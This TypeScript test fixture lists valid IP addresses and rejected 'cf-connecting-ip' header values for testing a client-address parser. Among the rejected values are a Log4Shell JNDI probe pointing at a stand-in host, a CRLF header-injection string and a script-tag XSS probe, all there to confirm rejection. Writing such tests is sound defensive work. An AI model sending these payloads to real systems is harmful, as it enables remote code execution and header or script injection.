/**
 * The `cf-connecting-ip` values every layer is tested with, from one source: a new rule for
 * what counts as a client address is written here once, and the parser, the request's
 * context and each transport, end to end, are all held to it.
 */

/** Well-formed addresses, kept exactly as given. */
export const CLIENT_ADDRESSES = [
  '203.0.113.9',
  '0.0.0.0',
  '255.255.255.255',
  '::1',
  '::',
  '2001:db8::1',
  '2001:DB8:0:0:8:800:200C:417A',
  '::ffff:192.0.2.128',
  'ffff:ffff:ffff:ffff:ffff:ffff:255.255.255.255',
] as const

const TEN_KB = 10 * 1024

/** What each is, and a header value that is no client address: each reads `unknown`. */
export const NOT_CLIENT_ADDRESSES: readonly (readonly [string, string | undefined])[] = [
  ['a missing header', undefined],
  ['an empty header', ''],
  ['a host name', 'example.com'],
  ['a word', 'not-an-ip'],
  ['an IPv4 octet over 255', '256.1.1.1'],
  ['an IPv4 octet of three nines', '999.1.1.1'],
  ['an IPv4 octet with a leading zero', '010.0.0.1'],
  ['three IPv4 octets', '1.2.3'],
  ['surrounding spaces', ' 1.2.3.4'],
  ['a port', '1.2.3.4:80'],
  ['a bracketed IPv6', '[::1]'],
  ['an IPv6 zone', 'fe80::1%eth0'],
  ['two IPv6 compressions', '1::2::3'],
  ['nine IPv6 groups', '1:2:3:4:5:6:7:8:9'],
  ['a list of addresses', '203.0.113.5, 198.51.100.1'],
  ['a CRLF', '1.2.3.4\r\nx: y'],
  ['markup', '<script>alert(1)</script>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a Log4Shell probe
  ['a Log4Shell probe', '${jndi:ldap://evil.example/a}'],
  ['an address and 10 KB more', `203.0.113.5${'a'.repeat(TEN_KB)}`],
  ['10 KB of digits', '7'.repeat(TEN_KB)],
]

/**
 * The values a client can send as they are in a request's header: HTTP trims a value's
 * surrounding spaces, refuses a line break, and a missing or empty one is not sent.
 */
export const SENDABLE_NOT_CLIENT_ADDRESSES = NOT_CLIENT_ADDRESSES.filter(
  (entry): entry is readonly [string, string] =>
    entry[1] !== undefined &&
    entry[1] !== '' &&
    entry[1] === entry[1].trim() &&
    !/[\0\r\n]/.test(entry[1])
)
